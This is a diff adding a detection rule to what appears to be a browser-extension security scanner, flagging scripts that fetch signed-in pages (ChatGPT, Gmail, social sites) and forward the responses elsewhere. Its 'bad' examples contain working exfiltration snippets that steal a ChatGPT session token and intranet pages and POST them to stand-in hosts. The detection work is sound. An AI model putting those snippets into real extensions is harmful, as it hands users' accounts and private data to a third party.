@@ -1,0 +1,55 @@
+import { constant, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { hostOf, leadsOut, requestsOf, type Request } from './network.ts';
+import { originsOf } from './origins.ts';
+import { few } from './usage.ts';
+
+/** Addresses whose answers hold the person's own things whenever they are signed in. */
+const PRIVATE = /\/\/(mail\.google\.com\/mail|(chat\.openai|chatgpt)\.com\/(api|backend-api)|claude\.ai\/api|(business|adsmanager|graph|www|m)\.facebook\.com\/|www\.linkedin\.com\/(voyager|feed)|(x|twitter)\.com\/i\/api|www\.instagram\.com\/|discord\.com\/api\/v\d+\/users|outlook\.(live|office)\.com\/|myaccount\.google\.com|accounts\.google\.com|www\.paypal\.com\/|github\.com\/settings|www\.roblox\.com\/|api\.steampowered\.com|web\.whatsapp\.com)/i;
+
+export const answersPassedOn = defineRule({
+  id: 'answers-passed-on',
+  title: 'What a site answers to the signed-in person is passed on to another server',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'privacy',
+  applies: 'extension',
+  cwe: 'CWE-359',
+  references: ['https://attack.mitre.org/techniques/T1539/', 'https://attack.mitre.org/techniques/T1114/'],
+  why: 'Requests of an extension carry the person’s cookies, so that the answers hold their mails, messages, keys and accounts. Sent elsewhere, they belong to whoever owns that server.',
+  remedy: 'Work on such answers in the browser, and send nothing of them.',
+  check: checkScripts(function* ({ script, hit }) {
+    const all = few(requestsOf(script), 200);
+    const asked = all.filter((request) => leadsOut(request.to) && hostOf(request.to) !== undefined && isPersonal(script, request));
+    if (asked.length === 0) return;
+    for (const request of all) {
+      const host = hostOf(request.to);
+      if (host === undefined || !leadsOut(request.to)) continue;
+      for (const first of asked) {
+        if (first.value === request.value || site(hostOf(first.to) ?? '') === site(host)) continue;
+        if (!request.sent.some((value) => value !== request.address && originsOf(script, value).has(first.value)) && !originsOf(script, request.address).has(first.value)) continue;
+        yield hit(request.value, { message: `Answers of ${hostOf(first.to) ?? ''} are sent to ${host}.`, ...(PRIVATE.test(first.to) ? { severity: 'critical' as const } : {}) });
+        break;
+      }
+    }
+  }),
+  examples: {
+    bad: [
+      backgroundExample('async function go() { const r = await fetch("https://chat.openai.com/api/auth/session", { credentials: "include" }); const { accessToken } = await r.json(); fetch("https://api.mods.example/acc", { method: "POST", body: JSON.stringify({ accessToken }) }); } go();'),
+      backgroundExample('chrome.alarms.onAlarm.addListener(async () => { const html = await (await fetch("https://intranet.example.org/list", { credentials: "include" })).text(); await fetch("https://in.collect.example/raw", { method: "POST", body: html }); });'),
+    ],
+    good: [
+      backgroundExample('(async () => { const t = await (await fetch("https://api.weather.example/now")).text(); await fetch("https://log.tool.example/n", { method: "POST", body: t }); })();'),
+      backgroundExample('(async () => { const t = await (await fetch("https://mail.google.com/mail/u/0/feed/atom", { credentials: "include" })).text(); chrome.action.setBadgeText({ text: t.slice(0, 3) }); fetch("https://tool.example/ping"); })();'),
+      backgroundExample('(async () => { const t = await (await fetch("https://app.tool.example/me", { credentials: "include" })).json(); await fetch("https://api.tool.example/sync", { method: "POST", body: JSON.stringify(t) }); })();'),
+    ],
+  },
+});
+
+function isPersonal(script: ScriptFacts, request: Request): boolean {
+  return PRIVATE.test(request.to) || request.sent.some((value) => constant(script, propertyOf(script, value, 'credentials')) === 'include');
+}
+
+/** The last two labels of a host: parts of one service. */
+const site = (host: string): string => host.split('.').slice(-2).join('.');
